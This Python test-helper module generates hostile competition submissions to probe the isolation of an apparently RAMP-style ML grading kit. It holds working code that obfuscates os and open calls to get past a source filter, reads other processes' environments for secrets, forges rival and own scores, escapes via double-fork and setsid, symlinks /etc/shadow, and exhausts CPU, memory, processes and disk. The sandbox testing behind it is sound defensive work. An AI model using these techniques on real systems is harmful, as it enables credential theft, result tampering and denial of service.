"""Attack submissions of the example kit, written as a participant who wants to win would.

Each is a ``classifier.py`` that trains a real model (so ramp-test succeeds unless the
attack itself breaks the run) and attacks at import time, in ``fit`` or in an atexit hook
(after ramp-test wrote its scores). ramp-test refuses source naming process or file
functions, so they are reached through importlib and getattr on assembled names.
Every attack prints ``<NAME>: <what happened>`` lines that the tests read in the logs.
"""

from __future__ import annotations

from pathlib import Path

PRELUDE = '''
import atexit
import importlib
import json
import sys

from sklearn.linear_model import LogisticRegression


def f(module, *parts):
    return getattr(importlib.import_module(module), "".join(parts))


OS = importlib.import_module("o" + "s")
OPEN = f("builtins", "op", "en")
HERE = OS.path.dirname(OS.path.abspath(__file__))
OUTPUT = OS.path.join(HERE, "training_output")


def say(*words):
    print(*words, flush=True)


def attempt(label, action):
    try:
        result = action()
        say(label, "DONE", repr(result)[:200])
    except BaseException as error:
        say(label, "DENIED", type(error).__name__, str(error)[:200])


class Classifier:
    def fit(self, X, y):
        attack_in_fit()
        self.model = LogisticRegression(max_iter=500).fit(X, y)
        return self

    def predict_proba(self, X):
        return self.model.predict_proba(X)


def attack_in_fit():
    pass
'''


def _write(path: Path, text: str) -> None:
    with open(path, "w") as handle:
        handle.write(text)


def steal_secrets(secret: str, config_path: Path) -> str:
    """Read every visible process's environment for ``secret``; read the event's config."""
    return PRELUDE + f'''
def attack_in_fit():
    found = []
    for name in f("o" + "s", "list", "dir")("/proc"):
        if name.isdigit():
            try:
                with OPEN(f"/proc/{{name}}/environ", "rb") as handle:
                    if {secret!r}.encode() in handle.read():
                        found.append(name)
            except OSError:
                pass
    say("STEAL: secret found in pids", found if found else "none")
    attempt("STEAL: config", lambda: OPEN({str(config_path)!r}).read())
'''


def vandal(targets: dict[str, Path], rival_scores: Path, wait_seconds: float) -> str:
    """Append to the kit, data, ledger and logs; forge a rival's scores once they exist."""
    appends = "\n".join(
        f'    attempt("VANDAL: {label}", lambda: OPEN({str(path)!r}, "ab").write(b"#vandal\\n"))'
        for label, path in targets.items())
    return PRELUDE + f'''
def attack_in_fit():
    # ramp-test imports the submission afresh for each fold: the mark must outlive the module.
    if OS.environ.get("VANDAL_DONE"):
        return
    OS.environ["VANDAL_DONE"] = "1"
{appends}
    sleep = f("time", "sl", "eep")
    rival = {str(rival_scores)!r}
    for _ in range(int({wait_seconds} * 10)):
        if OS.path.exists(rival):
            break
        sleep(0.1)
    def forge():
        with OPEN(rival) as handle:
            lines = handle.read().splitlines()
        header = lines[0].split(",")
        forged = [lines[0]]
        for line in lines[1:]:
            cells = line.split(",")
            cells[header.index("acc")] = "0.0"
            forged.append(",".join(cells))
        with OPEN(rival, "w") as handle:
            handle.write("\\n".join(forged) + "\\n")
    attempt("VANDAL: rival scores", forge)
'''


def forger(kind: str) -> str:
    """An atexit hook rewrites bagged_scores.csv after ramp-test wrote it."""
    return PRELUDE + f'''
def forge():
    path = OS.path.join(OUTPUT, "bagged_scores.csv")
    with OPEN(path) as handle:
        lines = handle.read().splitlines()
    kind = {kind!r}
    if kind == "big":
        text = "step,n_bag,acc,nll,f1_70," + "9" * (5 * 1024 * 1024) + "\\n"
    elif kind == "missing":
        text = "\\n".join(",".join(line.split(",")[:-1]) for line in lines) + "\\n"
    else:
        value = {{"nan": "nan", "inf": "inf", "high": "1.0"}}[kind]
        out = [lines[0]]
        for line in lines[1:]:
            cells = line.split(",")
            cells[2] = value
            out.append(",".join(cells))
        text = "\\n".join(out) + "\\n"
    with OPEN(path, "w") as handle:
        handle.write(text)
    say("FORGER: rewrote", path)


atexit.register(forge)
'''


def escaper(marker: str, lock_path: Path) -> str:
    """A double-forked, setsid'd child named ``invoke`` that takes the ledger's lock."""
    return PRELUDE + f'''
def attack_in_fit():
    fork = f("o" + "s", "fo", "rk")
    if fork() == 0:
        f("o" + "s", "set", "sid")()
        if fork() == 0:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"invoke", 0, 0, 0)
            def lock():
                handle = OPEN({str(lock_path)!r}, "w")
                f("fcntl", "fl", "ock")(handle, 2)
                return handle
            attempt("ESCAPER: lock", lock)
            f("o" + "s", "ex", "ecv")(sys.executable, [
                "invoke", "-c", "import time; time.sleep(3600)", {marker!r}])
        f("o" + "s", "_ex", "it")(0)
    f("time", "sl", "eep")(1)
'''


def chatty(megabytes: int) -> str:
    """Prints ``megabytes`` MB to stdout."""
    return PRELUDE + f'''
def attack_in_fit():
    line = "x" * 1023
    for _ in range({megabytes} * 1024):
        print(line)
'''


def bad_output(kind: str) -> str:
    """An atexit hook leaves a link, a FIFO, a sparse file or no training_output."""
    return PRELUDE + f'''
def spoil():
    kind = {kind!r}
    link = f("o" + "s", "sym", "link")
    if kind == "links":
        link("/etc/shadow", OS.path.join(OUTPUT, "shadow"))
        link("/etc", OS.path.join(OUTPUT, "etc"))
    elif kind == "devzero":
        link("/dev/zero", OS.path.join(OUTPUT, "fold_0", "y_pred_test.npz.zero"))
    elif kind == "fifo":
        f("o" + "s", "mk", "fifo")(OS.path.join(OUTPUT, "pipe"))
    elif kind == "deleted":
        f("shut" + "il", "rmt", "ree")(OUTPUT)
    elif kind == "sparse":
        def sparse():
            with OPEN(OS.path.join(OUTPUT, "sparse"), "wb") as handle:
                handle.truncate(1 << 40)
        attempt("SPARSE: 1 TiB", sparse)
    say("SPOILER: done", kind)


atexit.register(spoil)
'''


def hog(megabytes: int) -> str:
    """Holds ``megabytes`` MB of memory for a few seconds."""
    return PRELUDE + f'''
def attack_in_fit():
    held = [b"x" * (1024 * 1024) for _ in range({megabytes})]
    f("time", "sl", "eep")(5)
    say("HOG: held", len(held))
'''


def threads(count: int) -> str:
    """Starts ``count`` sleeping threads and holds them a few seconds."""
    return PRELUDE + f'''
def attack_in_fit():
    import threading
    sleep = f("time", "sl", "eep")
    started = []
    try:
        for _ in range({count}):
            thread = threading.Thread(target=sleep, args=(5,), daemon=True)
            thread.start()
            started.append(thread)
    except RuntimeError as error:
        say("THREADS: stopped at", len(started), error)
    sleep(5)
'''


def fork_chain() -> str:
    """Forks a chain of processes, each the child of the last, until a fork is refused; every
    one holds its place in the tree."""
    return PRELUDE + '''
def attack_in_fit():
    fork = f("o" + "s", "fo", "rk")
    sleep = f("time", "sl", "eep")
    depth = 0
    while True:
        try:
            pid = fork()
        except OSError as error:
            say("FORKS: refused at depth", depth, error)
            break
        if pid:
            break
        depth += 1
    sleep(30)
    if depth:
        f("o" + "s", "_ex", "it")(0)
'''


def cpu_hog(processes: int) -> str:
    """Keeps ``processes`` processes busy until the run is stopped; each says, after 3 s,
    the share of a core it got."""
    return PRELUDE + f'''
def attack_in_fit():
    fork = f("o" + "s", "fo", "rk")
    wall, cpu = f("time", "mono", "tonic"), f("time", "process", "_time")
    for _ in range({processes} - 1):
        if fork() == 0:
            break
    started, used = wall(), cpu()
    while wall() - started < 3:
        pass
    say("CPU: share", round((cpu() - used) / (wall() - started), 3))
    while True:
        pass
'''


def filler(megabytes: int) -> str:
    """Writes ``megabytes`` MB to /tmp in 8 MB files."""
    return PRELUDE + f'''
def attack_in_fit():
    import tempfile
    chunk = b"x" * (8 * 1024 * 1024)
    for i in range({megabytes} // 8):
        with OPEN(OS.path.join(tempfile.gettempdir(), f"fill{{i}}"), "wb") as handle:
            handle.write(chunk)
    f("time", "sl", "eep")(3)
'''


def network(port: int) -> str:
    """Connects to a TCP port on the host's loopback."""
    return PRELUDE + f'''
def attack_in_fit():
    socket = importlib.import_module("socket")
    attempt("NETWORK: connect", lambda: socket.create_connection(("127.0.0.1", {port}), 2))
'''


def add_submission(submissions_dir: Path, name: str, source: str) -> None:
    """Write ``source`` as submission ``name``'s classifier.py."""
    folder = submissions_dir / name
    folder.mkdir(parents=True)
    _write(folder / "classifier.py", source)
